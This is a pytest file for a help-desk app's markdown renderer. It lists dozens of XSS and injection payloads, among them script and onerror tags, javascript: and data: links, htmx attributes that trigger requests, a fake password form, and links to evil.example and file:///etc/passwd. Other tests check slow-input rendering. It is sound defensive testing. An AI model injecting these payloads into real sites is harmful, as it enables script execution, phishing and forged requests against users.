"""What people may write to harm those who read it: nothing of it runs, calls out or takes long."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from resolutionflow.core.text import NOTE
from resolutionflow.web import markdown
from resolutionflow.web.markdown import Place
from sessions_app.models import Session
from sessions_app.templatetags.markdown import markdown as shown
from tests.resolutionflow.web.rendered import Rendered

HERE = Place("/sessions/7/", steps=20, messages=5, ticket="48190", ticket_page="https://desk.example/48190")
WAYS = (markdown.blocks, markdown.line, markdown.links)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><img src onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><!DOCTYPE html>",
    "<div hx-get=/sessions/1/ hx-trigger=load></div>",
    "<div hx-on:click=alert(1) hx-swap-oob=true id=trail></div>",
    "<div data-hx-post=/handoffs/1/claim/ data-hx-trigger=load></div>",
    "<button form=verb formaction=/handoffs/1/claim/>OK</button>",
    "<li id=message-1 class=message data-order=1>",
    "</div></li></ol><h1>Signed out</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](\\\\evil.example\\share)",
    "[x](file:///etc/passwd)",
    "[x](ms-msdt:/id)",
    "[x](search-ms:query=x)",
    "[x](blob:https://evil.example/1)",
    "[x](https://user:pass@evil.example/)",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "[x](https://evil.example/'><script>alert(1)</script>)",
    "[x](https://evil.example \"\\\" onclick=alert(1)\")",
    "[<img src=x onerror=alert(1)>](https://evil.example)",
    "[`</a><script>`](https://evil.example)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/pixel.png)](https://evil.example)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://evil.example/\"onclick=alert(1)>",
    "javascript:alert(1)",
    "javascript://example.com/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/<script>alert(1)</script>",
    "https://[evil",
    "http://\u202egpj.example/",
    "`<script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    "```<script>\nx\n```",
    "```html onclick=alert(1)\nx\n```",
    "- <script>alert(1)</script>",
    "1. <img src=x onerror=alert(1)>",
    "**<script>alert(1)</script>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "#48190\"onclick=alert(1)",
    "session 7\"onclick=alert(1)",
    "{{ session.pk }}{% csrf_token %}",
    "a[href] { background: url(//evil.example) }",
    "\x00<script>\x0c",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("way", WAYS)
def test_nothing_of_it_runs_or_calls_out(payload, way):
    """Every element and attribute is one of ours; what was meant as one is shown."""
    for text in (payload, f"x\n{payload} https://example.com `y`", f"- {payload}\n- **{payload}**"):
        rendered = Rendered(way(text, HERE))
        assert not rendered.wrong
        for address in rendered.links.values():
            assert address.startswith(("https://", "/sessions/7/", "http://"))
        if "<" in payload and "`" not in payload and not payload.startswith("<https"):
            assert "<" in rendered.seen


@settings(max_examples=1000, deadline=None, derandomize=True)
@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "**", "`", "```\n", "\n", "- ", " ", "[x](https://a.example/", ")"]), max_size=6
    )
)
def test_nor_does_any_mixture(parts):
    assert not Rendered(markdown.blocks("".join(parts), HERE)).wrong


LONG = [
    *(
        "[",
        "]",
        "[]",
        "[](",
        "[a](",
        "[a](http://x",
        "[a](http://x)",
        "(",
        ")",
        "**",
        "**a ",
        "a** ",
        "**a**",
        "*",
        "***",
    ),
    *(
        "`",
        "``",
        "`a",
        "` ` `",
        "<",
        "<a",
        "<http://",
        "http://",
        "http://a.b ",
        "http://a.b/(",
        "http://a.b/,,",
        "://",
    ),
    *(
        "- ",
        "- a\n",
        "- a\n ",
        "1. a\n",
        " ",
        "\n",
        "```\n",
        "```\na\n",
        "session ",
        "session 1 ",
        "CVE-",
        "KB1",
        "#48190",
    ),
    *(
        "s1 ",
        "_",
        "\\",
        "&",
        "![",
        "mailto:",
        "http://[",
        "rdp session 1 ",
        "…",
        "[**a](http://x)",
        "a`",
        " `a`a",
        '`" ',
        "- a:\n",
        "a:\n - 1\n",
        "[a.aa](http://x)",
        "**[a",
        "\t",
        "https://a",
    ),
]


@pytest.mark.parametrize("piece", LONG)
@pytest.mark.parametrize("way", WAYS)
def test_nothing_takes_long(piece, way):
    """The longest that is rendered at all. Each takes under a second; here other tests may run beside it."""
    for text in (piece * NOTE, "[" + piece * NOTE):
        began = time.process_time()
        way(text[:NOTE], HERE)
        assert time.process_time() - began < 3


def test_of_a_text_full_of_numbers_the_first_are_links():
    text = "\n".join(["s1 **session 7** " * 5] * 200)
    rendered = markdown.blocks(text, HERE)
    assert rendered.count("<a ") == markdown.NUMBERS
    assert Rendered(rendered).seen == text.replace("**", "")
    assert len(markdown.blocks("s1 " * (NOTE // 3), HERE)) < 3 * NOTE


def test_a_megabyte_is_shown_as_it_was_typed():
    text = "[(*`<" * 200_000
    began = time.process_time()
    html = shown(text, Session(pk=7))
    assert time.process_time() - began < 1
    assert html == text.replace("<", "&lt;")
